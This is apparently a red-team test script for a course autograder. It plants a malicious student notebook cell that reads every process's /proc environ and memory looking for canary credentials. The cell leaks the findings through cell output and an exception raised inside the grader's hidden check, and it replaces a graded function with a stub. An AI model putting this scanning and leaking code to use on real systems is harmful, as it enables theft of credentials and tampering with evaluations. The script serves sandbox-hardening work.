"""a01: the grader's environment holds canaries (DATABASE_URL, DISTCOURSE_DB_URL, AWS_SECRET_ACCESS_KEY). From the
kernel (a cell) and from the observer's child (the student's training_memory, called by the hidden check), read
every /proc/<pid>/environ, cmdline and the readable memory of every process visible (bwrap's init, the placeholder,
the kernel / observer), and look for the canaries; the findings come back in the cell's output and in the judge's
failure message. Honest ps1 beside it."""
import os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import u14
SCAN = r'''
def _scan():
    import os, re
    pats = [b"ta:secret", b"secret2@", b"AKIASECRETCANARY", b"DATABASE_URL"]
    out = []
    for p in sorted(os.listdir("/proc"), key=lambda x: (len(x), x)):
        if not p.isdigit(): continue
        try:
            env = open(f"/proc/{p}/environ", "rb").read()
            out.append("pid %s environ %d bytes, canary %r keys %r" % (p, len(env), [x for x in pats if x in env], [e.split(b"=")[0] for e in env.split(b"\0") if e][:40]))
        except Exception as e:
            out.append("pid %s environ: %r" % (p, e))
        hits, nbytes = [], 0
        try:
            mem = open(f"/proc/{p}/mem", "rb", 0)
            for line in open(f"/proc/{p}/maps"):
                f = line.split()
                if "r" not in f[1]: continue
                a, b = (int(x, 16) for x in f[0].split("-"))
                if b - a > (256 << 20): continue
                try:
                    mem.seek(a); data = mem.read(b - a)
                except Exception:
                    continue
                nbytes += len(data)
                for x in pats:
                    i = data.find(x)
                    if i >= 0: hits.append((x, f[-1] if len(f) > 5 else "anon", data[max(0, i-40):i+60]))
            out.append("pid %s mem read %d MB hits %r" % (p, nbytes >> 20, hits[:6]))
        except Exception as e:
            out.append("pid %s mem: %r" % (p, e))
    return "\n".join(out)
'''
CELL = SCAN + r'''
print("KERNEL SCAN\n" + _scan())
_orig_tm = training_memory
def training_memory(model, optimizer):
    import sys
    obs = sys.modules.get("probes.observer")
    if obs is not None and getattr(obs, "ACTIVE", False):
        raise RuntimeError("OBSERVER SCAN\n" + _scan())
    return 0
'''
dest = u14.course("a01", {("mallory", "ps1_memory"): u14.notebook("ps1_memory", append={"training_memory": CELL}),
                          ("zz_honest", "ps1_memory"): u14.honest("ps1_memory")})
p = u14.grade(dest, env=u14.CANARY_ENV)
u14.scores(dest)
u14.cell_outputs(dest, "mallory", "ps1_memory", ("training_memory", "training_memory_counts_tensors"))
import subprocess
print("canary anywhere in the course folder:", subprocess.run(["grep", "-rl", "ta:secret\\|AKIASECRETCANARY", dest], capture_output=True, text=True).stdout or "none")
u14.cleanup(dest)
